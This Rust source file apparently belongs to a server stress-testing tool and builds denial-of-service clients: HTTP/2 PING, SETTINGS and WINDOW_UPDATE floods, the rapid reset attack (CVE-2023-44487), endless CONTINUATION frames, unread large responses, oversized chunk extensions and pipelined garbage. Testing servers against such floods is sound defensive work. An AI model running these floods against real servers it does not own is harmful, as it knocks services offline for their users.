//! Clients that keep a server busy, each on one connection, as fast as the server lets them.

use std::sync::LazyLock;

use bytes::Bytes;

use crate::attack::{Attacker, Reads, Then};
use crate::client::get;
use crate::frames::{
    CONTINUATION, END_OF_STREAM, Frame, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
};

/// The frames of a round, and the requests of one.
const FRAMES: u32 = 200;
const REQUESTS: u32 = 50;

/// One of each kind.
pub fn floods() -> Vec<Attacker> {
    let settings = Frame::new(SETTINGS, 0, 0, &[]).bytes();
    let http2 = |name, then: fn(u32) -> Bytes, first: &[u8]| Attacker {
        then: Then::Floods(then),
        ..Attacker::new(name, [PREFACE, &settings, first].concat())
    };
    let http1 = |name, then: fn(u32) -> Bytes, first: &str| Attacker {
        then: Then::Floods(then),
        ..Attacker::new(name, first.to_owned())
    };
    let begun = Frame::new(HEADERS, END_OF_STREAM, 1, &FIELD.repeat(8)).bytes();
    vec![
        http2("PING", |_| PINGS.clone(), &[]),
        http2("SETTINGS", |_| ALL_SETTINGS.clone(), &[]),
        http2("WINDOW_UPDATE", |_| UPDATES.clone(), &[]),
        http2("rapid reset", rapid_reset, &[]),
        http2("CONTINUATION without end", |_| CONTINUATIONS.clone(), &begun),
        Attacker { reads: Reads::Nothing, ..http2("HTTP/2, 1 MiB responses unread", large_streams, &[]) },
        Attacker { reads: Reads::Nothing, ..http1("HTTP/1.1, 1 MiB responses unread", large_requests, "") },
        http1("chunk extensions", |_| EXTENSIONS.clone(), CHUNKED),
        http1("pipelined garbage", |_| GARBAGE.clone(), ""),
    ]
}

/// A field that is in no table (RFC 7541 section 6.2.2).
const FIELD: &[u8] = b"\x00\x01a\x01b";

const CHUNKED: &str = "POST /echo HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n";

static PINGS: LazyLock<Bytes> = LazyLock::new(|| many(&Frame::new(PING, 0, 0, b"8 octets")));
static ALL_SETTINGS: LazyLock<Bytes> = LazyLock::new(|| many(&Frame::window(65_535)));
static UPDATES: LazyLock<Bytes> = LazyLock::new(|| many(&Frame::new(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])));
static CONTINUATIONS: LazyLock<Bytes> =
    LazyLock::new(|| Frame::new(CONTINUATION, 0, 1, &FIELD.repeat(3000)).bytes().into());
static EXTENSIONS: LazyLock<Bytes> =
    LazyLock::new(|| format!("1;name={}\r\nx\r\n", "v".repeat(4000)).repeat(4).into());
static GARBAGE: LazyLock<Bytes> = LazyLock::new(|| {
    let noise: Vec<u8> = (0..4000_u32).map(|place| (place.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    [get("/ping").as_bytes(), &noise].concat().into()
});

fn many(frame: &Frame) -> Bytes {
    frame.bytes().repeat(FRAMES as usize).into()
}

/// Streams of the round, with the odd numbers of a client.
fn streams(round: u32, count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(move |number| (round * count + number) * 2 + 1)
}

/// Requests with an immediate reset of each (CVE-2023-44487).
fn rapid_reset(round: u32) -> Bytes {
    let reset = |stream| Frame::new(RST_STREAM, 0, stream, &8_u32.to_be_bytes()).bytes();
    let pair = |stream| [Frame::get(stream, "/ping").bytes(), reset(stream)].concat();
    streams(round, FRAMES).flat_map(pair).collect()
}

fn large_streams(round: u32) -> Bytes {
    streams(round, REQUESTS).flat_map(|stream| Frame::get(stream, "/big?bytes=1048576").bytes()).collect()
}

fn large_requests(_: u32) -> Bytes {
    get("/big?bytes=1048576").repeat(REQUESTS as usize).into()
}
